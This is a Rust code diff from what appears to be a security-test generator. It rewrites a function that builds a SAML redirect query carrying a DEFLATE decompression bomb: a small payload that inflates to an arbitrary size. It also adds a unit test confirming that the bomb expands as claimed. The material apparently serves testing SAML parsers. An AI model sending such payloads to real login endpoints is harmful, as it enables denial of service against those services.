@@ -127,12 +127,16 @@ pub fn make(recipe: &str, count: usize, folder: &Path) -> Result<Vec<u8>> {
 
 /// A redirect query whose message inflates to `count` bytes.
 fn bomb(count: usize) -> Result<Vec<u8>> {
-    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
+    // One block, closed to the byte, stands for all of them: nothing in it refers to what is before.
     let block = vec![b' '; 1 << 20];
-    for _ in 0..count / block.len() {
-        encoder.write_all(&block)?;
-    }
-    let packed = STANDARD.encode(encoder.finish()?);
+    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
+    encoder.write_all(&block)?;
+    encoder.flush()?;
+    let closed = encoder.get_ref().clone();
+    let mut deflated = closed.repeat(count / block.len());
+    // An empty last block.
+    deflated.extend([0x03, 0x00]);
+    let packed = STANDARD.encode(deflated);
     let query = url::form_urlencoded::Serializer::new(String::new())
         .append_pair("SAMLRequest", &packed)
         .append_pair("SigAlg", "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256")
@@ -146,4 +150,24 @@ fn replaced(text: &str, old: &str, new: &str) -> Result<String> {
         bail!("{old:?} does not stand exactly once in the control");
     }
     Ok(text.replace(old, new))
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::Read as _;
+
+    use flate2::read::DeflateDecoder;
+
+    use super::*;
+
+    #[test]
+    fn a_bomb_inflates_to_what_it_says() {
+        let query = bomb(3 << 20).unwrap();
+        let message = url::form_urlencoded::parse(&query).next().unwrap().1.into_owned();
+        let deflated = STANDARD.decode(message).unwrap();
+        let mut inflated = Vec::new();
+        DeflateDecoder::new(deflated.as_slice()).read_to_end(&mut inflated).unwrap();
+        assert_eq!(inflated.len(), 3 << 20);
+        assert!(deflated.len() < 10_000 && inflated.iter().all(|byte| *byte == b' '));
+    }
 }
